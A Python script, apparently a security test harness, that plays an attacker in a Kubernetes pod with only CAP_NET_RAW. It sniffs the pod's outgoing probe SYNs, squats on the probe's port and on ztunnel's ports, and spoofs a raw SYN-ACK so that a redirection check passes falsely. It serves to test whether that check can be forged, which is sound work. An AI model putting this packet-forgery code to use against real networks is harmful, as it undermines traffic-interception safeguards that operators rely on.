#!/usr/bin/python3
"""The ambient-proof forgery of issue 43, as far as the kernel lets it go: a process in the pod with
only CAP_NET_RAW listens on ztunnel's ports, watches eth0 for the probe's SYN, tries to bind the
probe's own address and port (SO_REUSEADDR, SO_REUSEPORT, the wildcard address), connects what it
bound to 127.0.0.1:15001 (an accepted row whose peer is the probe's address and port), and spoofs the
SYN-ACK so the probe's connect succeeds with no redirect at all. Each SYN's bind outcomes are
written as JSON lines to OUT. Never sends a packet off the host: the SYN-ACK is addressed to the pod.

usage: probe-squatter.py POD_IPV4 OUT LIFETIME_S
"""
import errno
import json
import random
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
# Outgoing packets reach only ETH_P_ALL taps, never a protocol's own packet socket.
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
SO_REUSEPORT = 15


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_ack(src, dst, sport, dport, ack):
    """An IPv4 SYN-ACK from src:sport to dst:dport acknowledging `ack` - 1."""
    tcp = struct.pack('!HHIIBBHHH', sport, dport, random.getrandbits(32), ack, 5 << 4, 0x12, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def try_bind(address, options):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    for option in options:
        sock.setsockopt(socket.SOL_SOCKET, option, 1)
    try:
        sock.bind(address)
        return 'bound', sock
    except OSError as error:
        sock.close()
        return errno.errorcode.get(error.errno, str(error.errno)), None


def listeners():
    held = []
    for port in (15001, 15006, 15008):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(('0.0.0.0', port))
        sock.listen(64)
        held.append(sock)
    return held


def probe_holds(port):
    """Whether a socket still connects (SYN_SENT) or is connected from `port`: the probe's."""
    with open('/proc/net/tcp') as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if int(fields[1].split(':')[1], 16) == port and fields[3] in ('01', '02'):
                return True
    return False


def forge(pkt, pod_ip, raw, held):
    ihl = (pkt[0] & 0x0F) * 4
    src, dst = socket.inet_ntoa(pkt[12:16]), socket.inet_ntoa(pkt[16:20])
    sport, dport, seq = struct.unpack('!HHI', pkt[ihl:ihl + 8])
    # On a loaded machine the SYN may be read after the probe gave the attempt up: a bind of a port
    # nobody holds any more proves nothing, so whether the probe held it throughout is reported.
    outcome = {'port': sport, 'held': probe_holds(sport)}
    for name, address, options in (
        ('reuseaddr', (src, sport), [socket.SO_REUSEADDR]),
        ('reuseport', (src, sport), [SO_REUSEPORT]),
        ('wildcard', ('0.0.0.0', sport), [socket.SO_REUSEADDR]),
    ):
        outcome[name], sock = try_bind(address, options)
        if sock is not None:
            held.append(sock)
    # Checked again before anything of ours connects: a socket only bound is in no table.
    outcome['held'] = outcome['held'] and probe_holds(sport)
    forged = held[-3:] if outcome['reuseaddr'] == 'bound' else []
    for sock in forged:
        if sock.getsockname() == (src, sport):
            sock.setblocking(False)
            sock.connect_ex(('127.0.0.1', 15001))
    raw.sendto(syn_ack(dst, src, dport, sport, (seq + 1) & 0xFFFFFFFF), (pod_ip, 0))
    return outcome


def main():
    pod_ip, out, lifetime = sys.argv[1], sys.argv[2], float(sys.argv[3])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    sniff.bind(('eth0', 0))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    listening = listeners()
    held = []
    seen = set()
    end = time.time() + lifetime
    with open(out, 'a', buffering=1) as report:
        report.write(json.dumps({'ready': True}) + '\n')
        while time.time() < end and len(held) < 512:
            readable, _, _ = select.select([sniff] + listening, [], [], 0.2)
            for sock in listening:
                if sock in readable:
                    held.append(sock.accept()[0])
            if sniff not in readable:
                continue
            pkt, address = sniff.recvfrom(65535)
            ihl = (pkt[0] & 0x0F) * 4
            if address[1] != ETH_P_IP or address[2] != PACKET_OUTGOING or pkt[9] != 6 or pkt[ihl + 13] & 0x12 != 0x02:
                continue
            if pkt[12:16] != socket.inet_aton(pod_ip) or pkt[ihl:ihl + 2] in seen:
                continue
            seen.add(pkt[ihl:ihl + 2])
            report.write(json.dumps(forge(pkt, pod_ip, raw, held)) + '\n')


main()
